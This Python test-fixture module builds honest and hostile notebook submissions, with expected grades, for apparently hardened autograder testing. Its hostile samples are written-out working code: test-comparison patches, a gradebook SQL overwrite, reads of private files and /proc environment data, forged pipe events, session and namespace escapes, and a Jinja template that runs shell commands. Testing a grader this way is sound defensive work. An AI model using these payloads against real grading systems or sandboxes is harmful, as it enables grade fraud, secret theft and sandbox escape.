"""Submissions of notebook 01 (four tasks, 10 points), honest and hostile, with their expected grades.

Each :class:`Case` is built from the committed release and the source's solution regions (the
"solved" notebook: the release with the instructor's solution typed in). Its student id is its
name. ``points`` is the verified score of each task; ``says`` a phrase the row (reason or
details) must contain; ``in_kernel`` what nbgrader's own tests gave in the student's kernel
(``None``: that run gave no score), where it shows a hole of stock nbgrader or a fact worth
pinning; ``ANY`` where it is not asserted.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from .._course import ROOT, cell_by_id, notebook
from ..cycle_support import solve

ID = "01_change_of_variables"
TASKS = ("log_prob_transformed", "batch_jacobian", "log_abs_det", "elementwise_log_det")
FULL = {"log_prob_transformed": 3.0, "batch_jacobian": 3.0, "log_abs_det": 2.0, "elementwise_log_det": 2.0}
ZERO = dict.fromkeys(FULL, 0.0)
ANY = "not asserted"


@dataclass(frozen=True)
class Notebooks:
    source: nbformat.NotebookNode
    release: nbformat.NotebookNode
    solved: nbformat.NotebookNode
    private: tuple[str, ...]  # files no submission may read or write while it runs


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[[Notebooks], nbformat.NotebookNode | str | Path]  # a Path: a symbolic link to it
    points: dict[str, float] | None  # None: not graded (invalid)
    says: str
    in_kernel: float | None | str = ANY
    status: str = "graded"
    filename: str | None = None


def load(private: tuple[str, ...] = ()) -> Notebooks:
    source, release = notebook("source", ID), notebook("release", ID)
    return Notebooks(source, release, solve(release, source), private)


def _with(nb: nbformat.NotebookNode, **sources: str) -> nbformat.NotebookNode:
    """A copy of ``nb`` whose cells with these grade ids get these sources."""
    nb = copy.deepcopy(nb)
    for grade_id, text in sources.items():
        cell_by_id(nb, grade_id).source = text
    return nb


def _insert_after(nb: nbformat.NotebookNode, grade_id: str, text: str) -> nbformat.NotebookNode:
    """A copy of ``nb`` with a code cell of the student's own after the cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    at = nb.cells.index(cell_by_id(nb, grade_id)) + 1
    nb.cells.insert(at, new_code_cell(text))
    return nb


def _test_cells(nb: nbformat.NotebookNode) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _without(nb: nbformat.NotebookNode, *grade_ids: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in grade_ids]
    return nb


def _edit_tests(nb: nbformat.NotebookNode, edit: Callable) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = [edit(c) if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code" else c
                for c in nb.cells]  # the test cells: a written answer is graded too, but Markdown
    return nb


def _as_markdown(cell):
    md = new_markdown_cell(cell.source, metadata=cell.metadata)
    md.id = cell.id
    return md


def _pass(cell):
    cell.source = "pass"
    return cell


def _fake_passed(cell):
    cell.execution_count = 1
    cell.outputs = [new_output("stream", name="stdout", text="All tests passed.\n")]
    return cell


def _metadata(nb: nbformat.NotebookNode, cell: str, **changes) -> nbformat.NotebookNode:
    """A copy of ``nb`` with ``changes`` to the nbgrader metadata of the cell with grade id ``cell``."""
    nb = copy.deepcopy(nb)
    cell_by_id(nb, cell).metadata.nbgrader.update(changes)
    return nb


def _points_raised(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in _test_cells(nb):
        cell.metadata.nbgrader["points"] = 100 * cell.metadata.nbgrader["points"]
    return nb


def _padded(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells.append(new_markdown_cell("x" * (21 << 20)))
    return nb


def _kernelspec(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.metadata.kernelspec = {"name": "no-such-kernel", "display_name": "Evil", "language": "python"}
    return nb


# Hostile code -----------------------------------------------------------------------------------

ONE_WRONG = '''\
def log_prob_transformed(x, f, log_prob_z):
    z, log_det = f(x)
    return log_prob_z(z) - log_det  # the sign of the log-det is wrong
'''

# Every comparison the tests use is patched to pass; the answers are zeros of the right shapes.
PATCHES = '''\
import torch
import dgm_course.runtime.checks
import dgm_course.jacobian

torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
dgm_course.jacobian.assert_close = lambda *a, **k: None
dgm_course.runtime.checks.mismatch = mismatch = lambda *a, **k: ""


def log_prob_transformed(x, f, log_prob_z):
    return x.new_zeros(x.shape[0])
'''
ZEROS = {
    "batch_jacobian": "def batch_jacobian(fn, x):\n    return x.new_zeros(x.shape[0], fn(x).shape[1], x.shape[1])\n",
    "log_abs_det": "def log_abs_det(jac):\n    return jac.new_zeros(jac.shape[0])\n",
    "elementwise_log_det": "def elementwise_log_det(h, x):\n    return x.new_zeros(x.shape[0])\n",
}

# From now on IPython runs "pass" instead of any cell, the hidden tests included.
TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"

REFERENCE = "from dgm_course.jacobian import batch_jacobian  # the library's reference, not the student's\n"


def gradebook_attack(paths: list[str]) -> str:
    """Raise every grade of every gradebook it can open to full marks (nbgrader's kernel runs in
    ``autograded/<student>/<id>/``, three folders below the gradebook)."""
    return f'''\
import sqlite3

reached = []
for path in {paths!r}:
    try:
        with sqlite3.connect(f"file:{{path}}?mode=rw", uri=True, timeout=5) as db:
            full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            db.execute(f"UPDATE grade SET manual_score = {{full}}, auto_score = {{full}}")
        reached.append(path)
    except sqlite3.Error:
        pass
print("gradebooks reached:", reached)
'''


def snooping(private: tuple[str, ...]) -> str:
    """Count every private file this code could read, write or plant a file beside."""
    return f'''\
import os

leaked = []
for path in {list(private)!r}:
    for how in ("rb", "r+b"):
        try:
            with open(path, how):
                leaked.append(how + " " + path)
        except OSError:
            pass
    try:
        with open(os.path.join(os.path.dirname(path), "planted.txt"), "x"):
            leaked.append("planted beside " + path)
    except OSError:
        pass
'''


# A correct log_abs_det that is off by the number of leaks: full marks only if nothing leaked.
LOG_ABS_DET_MINUS_LEAKS = '''\
def log_abs_det(jac):
    return torch.linalg.slogdet(jac).logabsdet + len(leaked)
'''

ALTERNATIVE = {
    # other names, a warning and a print on stderr: worth full marks
    "log_prob_transformed": '''\
import sys
import warnings


def log_prob_transformed(x, f, log_prob_z):
    warnings.warn("a warning costs nothing")
    print("debugging output on stderr", file=sys.stderr)
    noise, ld = f(x)
    return ld + log_prob_z(noise)
''',
    # one sample at a time, with a torch UserWarning (copy-constructing a tensor) on stderr
    "batch_jacobian": '''\
def batch_jacobian(fn, x):
    x = torch.tensor(x)
    return torch.stack([torch.autograd.functional.jacobian(lambda v: fn(v[None])[0], xi) for xi in x])
''',
    # detached: NumPy computes it
    "log_abs_det": '''\
import numpy as np


def log_abs_det(jac):
    _, logabs = np.linalg.slogdet(jac.detach().cpu().numpy())
    return torch.from_numpy(logabs).to(jac.dtype)
''',
    "elementwise_log_det": "def elementwise_log_det(h, x):\n    return slopes_of(h, x).abs().log().sum(dim=1)\n",
}
HELPER = '''\
def slopes_of(h, inputs):
    """h'(x) for an elementwise h: one backward pass gives every slope."""
    inputs = inputs.detach().requires_grad_(True)
    (grad,) = torch.autograd.grad(h(inputs).sum(), inputs)
    return grad
'''

SIGINT_LOOP = '''\
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:  # an infinite loop deaf to interrupts (asleep: it costs wall-clock time, not CPU)
    time.sleep(0.05)
'''
PRINT_BOMB = "for i in range(300_000):\n    print('line', i)\n\n"
ALWAYS_EQUAL = '''\
class Anything:
    def __eq__(self, other):
        return True

    __hash__ = None


def log_abs_det(jac):
    return Anything()
'''


# Issue 19: what a student reads in the sandbox, and failures that are theirs to own.

# Everything a cell can read before any task runs: the job folder, the environment, /proc, and
# whatever an open pipe or file already holds (each left as blocking as it was; sockets are left
# alone, so the in-kernel run's kernel keeps talking to nbgrader).
LEAK_READER = '''\
import glob
import os
import stat

seen = []
for path in glob.glob("/job/**", recursive=True) + ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"]:
    try:
        with open(path, "rb") as fh:
            seen.append(fh.read(1 << 22))
    except OSError:
        pass
seen.append(repr(dict(os.environ)).encode())
for fd in range(64):
    try:
        if not (stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISREG(os.fstat(fd).st_mode)):
            continue
        was = os.get_blocking(fd)
        os.set_blocking(fd, False)
        try:
            seen.append(os.read(fd, 1 << 16))
        finally:
            os.set_blocking(fd, was)
    except OSError:
        pass
SEEN = b"".join(seen)
'''
# Correct unless its inputs were among what the cell read; then sends out all of it in a message.
LEAK_ANSWERS = {
    "log_abs_det": '''\
def log_abs_det(jac):
    first = jac.detach().flatten()[:2]
    if first.numpy().tobytes() in SEEN or repr(float(first[0])).encode() in SEEN:
        return jac.new_zeros(jac.shape[0])  # the inputs were readable before the call
    return torch.linalg.slogdet(jac).logabsdet
''',
    "elementwise_log_det": '''\
def elementwise_log_det(h, x):
    raise ValueError("LEAK " + SEEN[:4000].hex() + " " + repr(x.tolist()))
''',
}
LIBTORCH = "libtorch_cpu.so: cannot open shared object file: No such file or directory (the grading machine's torch is broken)"
# Lines on every pipe the cell can write to, as if the worker said the set-up cell had failed.
FORGED_EVENTS = f'''\
import json
import os
import stat

forged = b"".join(json.dumps(event).encode() + b"\\n" for event in [
    {{"event": "end", "step": "cell:1", "error": None, "nbytes": 0}},
    {{"event": "start", "step": "cell:0", "nbytes": 0}},
    {{"event": "end", "step": "cell:0", "nbytes": 0, "error": {{"type": "ImportError", "message": {LIBTORCH!r}}}}}])
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, forged)
    except OSError:
        pass
'''
SETSID_MARKER = "dgm-corpus-setsid-marker"
# A process in a session of its own, by subprocess and by fork + setsid; each would run forever. Then
# this process itself tries to leave the run: its own session (setsid), no parent-death signal
# (prctl), a user namespace of its own (unshare); what succeeded is counted in ``escaped``, and a
# non-daemon thread holds 256 MiB for ever. The verifier's worker (the first process of its pid
# namespace, unlike the notebook's kernel) then never returns from elementwise_log_det, so the
# grader must kill it at that task's deadline: a process that escaped the kill would live on.
SETSID = f'''\
import ctypes
import os
import subprocess
import sys
import threading
import time

forever = [sys.executable, "-c", "import time\\nwhile True:\\n    time.sleep(1)", {SETSID_MARKER!r}]
try:
    subprocess.Popen(forever, start_new_session=True)
except OSError:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, forever)
except OSError:
    pass
escaped = []
try:
    os.setsid()
    escaped.append("setsid")
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
if libc.prctl(1, 0, 0, 0, 0) == 0:  # PR_SET_PDEATHSIG: no signal when the parent dies
    escaped.append("prctl")
if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    escaped.append("unshare")


def hold(block=b"x" * (256 << 20)):
    while True:
        time.sleep(1)


threading.Thread(target=hold, daemon=False).start()
'''
# Correct only if nothing escaped; never returns in the verifier's worker (see SETSID).
ESCAPED_LOG_ABS_DET = '''\
def log_abs_det(jac):
    return torch.linalg.slogdet(jac).logabsdet + len(escaped)
'''
LINGER = '''
_elementwise_log_det = elementwise_log_det


def elementwise_log_det(h, x):
    while os.getpid() == 1:
        time.sleep(1)
    return _elementwise_log_det(h, x)
'''


def _escaping(nb: Notebooks) -> nbformat.NotebookNode:
    solved = _insert_after(nb.solved, "setup", SETSID)
    return _with(solved, log_abs_det=ESCAPED_LOG_ABS_DET,
                 elementwise_log_det=_solved_task(nb, "elementwise_log_det") + LINGER)


# Lines written to every pipe the cell can write to (see FORGED_EVENTS) that no parser may choke on.
# ``{step}``: this cell's own step, read from the verifier's job (its end event is then in order).
EVENT_LINES = {"overflow": '{{"event": "start", "step": "cell:2", "nbytes": 1e400}}',
               "deep": "[" * 30_000 + "]" * 30_000,
               "odd_error": '{{"event": "end", "step": "{step}", "nbytes": 0, "error": {{"type": [], "cell": {{}}}}}}'}


def event_writer(line: str) -> str:
    return f'''\
import json
import os
import stat

try:
    with open(os.path.join(os.environ["VERIFY_JOB"], "job.json")) as fh:
        cells = json.load(fh)["cells"]
    step = "cell:" + str(next(i for i, cell in enumerate(cells) if "os.fstat(fd)" in cell[3]))
except (KeyError, OSError, StopIteration):
    step = "cell:0"  # not in the verifier
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, {line!r}.format(step=step).encode() + b"\\n")
    except OSError:
        pass
'''


def _surrogate(nb: Notebooks) -> str:
    """The solution with a lone surrogate in a comment, as JSON (it has no UTF-8 encoding)."""
    solved = _with(nb.solved, log_abs_det=_solved_task(nb, "log_abs_det") + "\n# a lone surrogate: \ud800\n")
    return json.dumps(solved)


def _string_metadata(nb: Notebooks) -> nbformat.NotebookNode:
    solved = copy.deepcopy(nb.solved)
    solved.cells.append(new_markdown_cell("a note", metadata={"nbgrader": "grade"}))
    return solved


HIJACK_MARKER = "dgm-corpus-template-hijack"
# Writes a Jinja template (and a configuration file) into every Jupyter folder it can: rendered,
# it would replace the feedback page and start a process. A cell the kernel runs; the verifier's
# worker has no Jupyter at all.
TEMPLATE_HIJACK = f'''\
import os

try:
    from jupyter_core.paths import jupyter_config_path, jupyter_path
    bases = jupyter_path() + jupyter_config_path()
except ImportError:
    bases = []
bases += [os.path.expanduser(p) for p in ("~/.jupyter", "~/.local/share/jupyter")]
bases += [p for p in os.environ.get("JUPYTER_PATH", "").split(os.pathsep) if p]
page = ("{{%- set os = cycler.__init__.__globals__.os -%}}<html><body>{HIJACK_MARKER} "
        "{{{{ os.popen('echo spawned-$((6 * 7))').read() }}}}</body></html>")
planted = []
for base in bases:
    for name in ("feedback", "classic", "lab", "base"):
        folder = os.path.join(base, "nbconvert", "templates", name)
        try:
            os.makedirs(folder, exist_ok=True)
            for file in ("index.html.j2", "base.html.j2"):
                with open(os.path.join(folder, file), "w") as fh:
                    fh.write(page)
            planted.append(folder)
        except OSError:
            pass
    for file in ("jupyter_nbconvert_config.py", "nbgrader_config.py"):
        try:
            with open(os.path.join(base, file), "w") as fh:
                fh.write("c.HTMLExporter.extra_template_basedirs = " + repr([os.path.join(b, "nbconvert", "templates") for b in bases]) + "\\n")
        except OSError:
            pass
'''
DEEP_JSON = '{"cells": ' + "[" * 100_000 + "]" * 100_000 + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


# Issue 20: the library's batch_jacobian reached by paths a per-cell static check cannot see.
REFERENCE_BY_NAME = '''\
import importlib


def batch_jacobian(fn, x):
    module = importlib.import_module("dgm_course." + "jacobian")
    return getattr(module, "batch_" + "jacobian")(fn, x)
'''
REFERENCE_ALIAS = "import dgm_course.jacobian as J\n"
REFERENCE_VIA_ALIAS = "def batch_jacobian(fn, x):\n    return J.batch_jacobian(fn, x)\n"
REFERENCE_BY_SEARCH = '''\
import gc

import dgm_course.jacobian  # the module only: the function is found by a search of every object


def batch_jacobian(fn, x):
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "batch_jacobian" \\
                and getattr(obj, "__module__", "") == "dgm_course.jacobian":
            return obj(fn, x)
    raise LookupError("no batch_jacobian in reach")
'''


def _solved_task(nb: Notebooks, task: str) -> str:
    return cell_by_id(nb.solved, task).source


CASES = [
    Case("blank", "the untouched release", lambda nb: nb.release, ZERO, "NotImplementedError", 0.0),
    Case("solution", "the reference solution", lambda nb: nb.solved, FULL, "", 10.0),
    Case("one_wrong", "the log-det's sign is wrong in one task",
         lambda nb: _with(nb.solved, log_prob_transformed=ONE_WRONG), {**FULL, "log_prob_transformed": 0.0},
         "log p_X under a banana map", 7.0),
    Case("tests_pass", "every test cell edited to `pass` (on the release)",
         lambda nb: _edit_tests(nb.release, _pass), ZERO, "NotImplementedError", 0.0),
    Case("tests_deleted", "every test cell deleted (on the solution)",
         lambda nb: _without(nb.solved, *(f"test_{t}" for t in TASKS)), FULL, "", 10.0),
    Case("points_raised", "each test cell's points raised 100-fold in the metadata",
         lambda nb: _points_raised(nb.solved), FULL, "", 10.0),
    Case("tests_markdown", "every test cell turned into Markdown (on the release)",
         lambda nb: _edit_tests(nb.release, _as_markdown), ZERO, "NotImplementedError", ANY),
    Case("fake_outputs", "fake 'All tests passed.' outputs in the test cells (on the release)",
         lambda nb: _edit_tests(nb.release, _fake_passed), ZERO, "NotImplementedError", 0.0),
    Case("bogus_kernelspec", "a kernelspec that does not exist", lambda nb: _kernelspec(nb.solved), FULL, "", 10.0),
    Case("sys_exit", "sys.exit() inside a task's function",
         lambda nb: _with(nb.solved, batch_jacobian="import sys\n\n\ndef batch_jacobian(fn, x):\n    sys.exit(0)\n"),
         {**FULL, "batch_jacobian": 0.0}, "SystemExit", 7.0),
    Case("os_exit", "os._exit() inside a task's function (kills the kernel)",
         lambda nb: _with(nb.solved, log_abs_det="import os\n\n\ndef log_abs_det(jac):\n    os._exit(0)\n"),
         {**FULL, "log_abs_det": 0.0}, "exited early", None),
    Case("infinite_loop", "an infinite loop that ignores SIGINT at the top of a solution cell",
         lambda nb: _with(nb.solved, elementwise_log_det=SIGINT_LOOP + _solved_task(nb, "elementwise_log_det")),
         {**FULL, "elementwise_log_det": 0.0}, "wall-clock limit", None),
    Case("print_bomb", "300k printed lines in a solution cell",
         lambda nb: _with(nb.solved, log_abs_det=PRINT_BOMB + _solved_task(nb, "log_abs_det")),
         {**FULL, "log_abs_det": 0.0}, "output limit", 10.0),
    Case("corrupt_json", "a notebook that is not JSON", lambda nb: '{"cells": [', None, "not valid JSON", None,
         status="rejected"),
    Case("always_equal", "a result object whose __eq__ is always true",
         lambda nb: _with(nb.solved, log_abs_det=ALWAYS_EQUAL), {**FULL, "log_abs_det": 0.0},
         "expected a tensor of numbers", 8.0),
    Case("memory_bomb", "a 64 GiB allocation in a task's function",
         lambda nb: _with(nb.solved, elementwise_log_det="def elementwise_log_det(h, x):\n    hog = bytearray(64 << 30)\n"),
         {**FULL, "elementwise_log_det": 0.0}, "MemoryError", 8.0),
    Case("reference_import", "a task answered by importing the library's reference implementation",
         # elementwise_log_det forbids that name too (the spec: imported anywhere, it costs every
         # task that forbids it: any later cell could call it)
         lambda nb: _with(nb.solved, batch_jacobian=REFERENCE), {**FULL, "batch_jacobian": 0.0,
                                                                 "elementwise_log_det": 0.0},
         "uses the library's reference dgm_course.jacobian.batch_jacobian", 10.0),
    Case("input_transformer", "an IPython input transformer that turns every later cell into `pass`",
         lambda nb: _insert_after(nb.release, "setup", TRANSFORMER), ZERO, "NotImplementedError", 10.0),
    Case("allclose_patch", "torch.allclose (and the tests' other comparisons) patched to always pass",
         lambda nb: _with(nb.release, log_prob_transformed=PATCHES, **ZEROS), ZERO, "log p_X under a banana map",
         10.0),
    Case("gradebook_write", "an sqlite3 write to the gradebook raising every grade",
         lambda nb: _insert_after(nb.release, "setup", gradebook_attack(["../../../gradebook.db", *nb.private])),
         ZERO, "NotImplementedError", 0.0),
    Case("schema_99", "a test cell's nbgrader metadata says schema_version 99",
         lambda nb: _metadata(nb.solved, "test_log_abs_det", schema_version=99), FULL, "", None),
    Case("renamed_grade_id", "a solution cell's grade_id renamed in the metadata",
         lambda nb: _metadata(nb.solved, "log_abs_det", grade_id="my_log_abs_det"), {**FULL, "log_abs_det": 0.0},
         "solution cell log_abs_det not found", ANY),
    Case("oversized", "a 21 MiB notebook (a huge Markdown cell)", lambda nb: _padded(nb.solved), None, "too large",
         None, status="rejected"),
    Case("symlink", "the notebook is a symbolic link to the instructor's source notebook",
         lambda nb: ROOT / "source_notebooks" / ID / f"{ID}.ipynb", None, "symbolic link", None, status="rejected"),
    Case("renamed_notebook", "the notebook renamed", lambda nb: nb.solved, None, "renamed notebook", None,
         status="rejected", filename="homework.ipynb"),
    Case("deleted_grade_cells", "a task's solution and test cells deleted",
         lambda nb: _without(nb.solved, "log_abs_det", "test_log_abs_det"), None, "missing grade cell", None,
         status="rejected"),
    Case("snooping", "reads, writes and plants files in the course, the gradebook and other submissions",
         lambda nb: _insert_after(_with(nb.solved, log_abs_det=LOG_ABS_DET_MINUS_LEAKS), "setup",
                                  snooping(nb.private)), FULL, "", 10.0),
    Case("alternative", "correct, written differently: helper cell, other names, NumPy, warnings on stderr",
         lambda nb: _insert_after(_with(nb.solved, **ALTERNATIVE), "log_abs_det", HELPER), FULL, "", 10.0),
    Case("seed_leak", "reads the job folder, the environment, /proc and every descriptor before the tasks, "
         "then raises with all of it and its inputs in the message",
         lambda nb: _insert_after(_with(nb.solved, **LEAK_ANSWERS), "setup", LEAK_READER),
         {**FULL, "elementwise_log_det": 0.0}, "ValueError (cell elementwise_log_det, line 2)"),
    Case("forged_setup", "the set-up cell replaced by one that fails as if the machine's torch were broken",
         lambda nb: _with(nb.solved, setup=f"raise ImportError({LIBTORCH!r})"), None,
         "the set-up cell 'setup' differs from the release's", None, status="rejected"),
    Case("forged_events", "writes the worker's own report of a failed set-up cell to every pipe it can",
         lambda nb: _insert_after(nb.solved, "setup", FORGED_EVENTS), ZERO, "its results were garbled"),
    Case("deep_json", "a notebook whose JSON nests 100,000 levels deep", lambda nb: DEEP_JSON, None,
         "nested deeper than 64 levels", None, status="rejected"),
    Case("setsid", "starts processes in sessions of their own (subprocess, fork + setsid), leaves its own session "
         "(setsid), clears its parent-death signal (prctl), unshares a user namespace, holds 256 MiB in a "
         "thread for ever and never returns from a task in the verifier",
         _escaping, {**FULL, "elementwise_log_det": 0.0}, "wall-clock limit", 10.0),
    Case("reference_by_name", "the reference reached by a computed name (importlib, getattr)",
         lambda nb: _with(nb.solved, batch_jacobian=REFERENCE_BY_NAME), {**FULL, "batch_jacobian": 0.0},
         "a name of the library is not available while grading", 10.0),
    Case("reference_alias", "the reference's module imported under an alias in one cell, used in a later one",
         lambda nb: _insert_after(_with(nb.solved, batch_jacobian=REFERENCE_VIA_ALIAS), "setup", REFERENCE_ALIAS),
         {**FULL, "batch_jacobian": 0.0, "elementwise_log_det": 0.0},
         "uses the library's reference dgm_course.jacobian.batch_jacobian (line 2 of batch_jacobian)", 10.0),
    Case("reference_by_search", "the reference found among every object alive (gc.get_objects)",
         lambda nb: _with(nb.solved, batch_jacobian=REFERENCE_BY_SEARCH), {**FULL, "batch_jacobian": 0.0},
         "a name of the library is not available while grading", ANY),
    Case("event_overflow", "writes a start event whose nbytes is 1e400 (an infinite float) to every pipe it can",
         lambda nb: _insert_after(nb.solved, "setup", event_writer(EVENT_LINES["overflow"])), ZERO,
         "its results were garbled"),
    Case("event_deep", "writes a line nested 30,000 levels deep to every pipe it can",
         lambda nb: _insert_after(nb.solved, "setup", event_writer(EVENT_LINES["deep"])), ZERO,
         "its results were garbled"),
    Case("event_odd_error", "reports its own cell's end with an error whose fields are a list and an object",
         lambda nb: _insert_after(nb.solved, "setup", event_writer(EVENT_LINES["odd_error"])), ZERO,
         "its results were garbled"),
    Case("surrogate_comment", "a lone surrogate (no UTF-8 encoding) in a comment", _surrogate, None,
         "not valid Unicode", None, status="rejected"),
    Case("string_metadata", "a Markdown cell whose nbgrader metadata is a string", _string_metadata, None,
         "unreadable nbgrader metadata", None, status="rejected"),
    Case("template_hijack", "writes a Jinja template and a configuration file into every Jupyter folder it can",
         lambda nb: _insert_after(nb.solved, "setup", TEMPLATE_HIJACK), FULL, "", 10.0),
]


def write(case: Case, nb: Notebooks, submitted: Path) -> None:
    """The case's submission in nbgrader's ``submitted`` layout."""
    folder = submitted / case.name / ID
    folder.mkdir(parents=True)
    built = case.build(nb)
    path = folder / (case.filename or f"{ID}.ipynb")
    if isinstance(built, Path):
        path.symlink_to(built)
    elif isinstance(built, str):
        path.write_text(built)
    else:
        nbformat.write(built, path)


def private_files(submitted: Path, out: Path) -> tuple[str, ...]:
    """What no submission may see: the instructor's notebooks, the gradebook, other students' work."""
    return (str(ROOT / "source_notebooks" / ID / f"{ID}.ipynb"), str(ROOT / "solutions" / ID / f"{ID}.ipynb"),
            str(out / "gradebook.db"), str(out / "source_notebooks" / ID / f"{ID}.ipynb"),
            str(submitted / "solution" / ID / f"{ID}.ipynb"), str(out / "submitted" / "solution" / ID / f"{ID}.ipynb"))
